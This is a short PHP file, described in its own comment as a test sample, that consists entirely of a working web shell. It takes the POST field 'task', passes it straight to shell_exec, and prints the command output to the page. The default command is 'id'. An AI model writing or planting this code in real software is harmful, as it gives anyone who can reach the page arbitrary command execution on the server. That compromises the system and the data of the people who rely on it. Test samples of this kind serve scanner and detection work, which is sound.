<?php
// Test sample (never run): a command runner of the script's own, fed from the request.
function run_cmd($line)
{
    $out = shell_exec($line . ' 2>&1');
    return htmlspecialchars((string) $out);
}

$task = isset($_POST['task']) ? $_POST['task'] : 'id';
echo '<pre>' . run_cmd($task) . '</pre>';
